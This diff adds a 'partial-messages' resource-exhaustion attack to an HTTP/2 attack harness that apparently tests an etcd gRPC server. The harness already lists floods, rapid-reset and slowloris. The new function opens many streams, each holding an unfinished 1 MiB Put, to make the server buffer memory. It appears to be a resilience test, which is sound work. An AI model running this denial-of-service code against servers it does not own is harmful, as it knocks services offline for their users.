@@ -11,7 +11,8 @@ Frames are built by hand (hpack for header blocks) and written to raw
 sockets, so the attacker does what no conforming client would.
 
 ATTACKs: settings-flood, ping-flood, rapid-reset, continuation, empty-data
-(HTTP/2 floods); slowloris N [PLAIN_PORT] (N connections that send nothing
+(HTTP/2 floods); partial-messages N (N streams each holding ~960 KB of an
+unfinished 1 MiB message); slowloris N [PLAIN_PORT] (N connections that send nothing
 or their first bytes one a second: the HTTP/2 preface, or with PLAIN_PORT a
 TLS ClientHello to the TLS port PORT, the good client then asking on
 PLAIN_PORT); slowloris-http1 N (the same with an HTTP/1.1 request head, for
@@ -275,6 +276,29 @@ def attack_empty_data(port):
     sock, lst = open_attacker(port)
     send_all(sock, head)
     return flood_on(sock, lst, frame(DATA, 0, 1), 500000)
+
+
+def attack_partial_messages(port, streams):
+    """Streams that each send most of a 1 MiB Put and never finish it: the
+    server holds every partial message, streams x ~960 KB."""
+    enc = hpack.Encoder()
+    sock, lst = open_attacker(port)
+    time.sleep(0.2)
+    send_all(sock, frame(SETTINGS, ACK, 0))  # our windows are the server's from here
+    value_prefix = b"\x0a\x01k\x12\x80\x80\x40"  # PutRequest{key "k", value (1 MiB - 9)}
+    chunk = b"v" * 16000
+    sent = 0
+    while sent < streams and not lst.closed:
+        sid = 2 * sent + 1
+        data = frame(HEADERS, END_HEADERS, sid, enc.encode(request_headers(port, "/etcdserverpb.KV/Put")))
+        data += frame(DATA, 0, sid, b"\x00" + struct.pack(">I", 1 << 20) + value_prefix + chunk)
+        data += frame(DATA, 0, sid, chunk) * 59
+        if not send_all(sock, data):
+            break
+        sent += 1
+    outcome = lst.outcome(3.0)
+    sock.close()
+    return {"outcome": outcome, "sent": sent}
 
 
 def flood_on(sock, lst, unit, count, batch=5000):
@@ -590,6 +614,8 @@ def main():
         res = attack_conn_cap(port, int(args[0]))
     elif attack == "slow-watch":
         res = attack_slow_watch(port, int(args[0]), int(args[1]))
+    elif attack == "partial-messages":
+        res = attack_partial_messages(port, int(args[0]))
     elif attack == "many-watchers":
         res = attack_many_watchers(port, int(args[0]))
     elif attack == "puts":
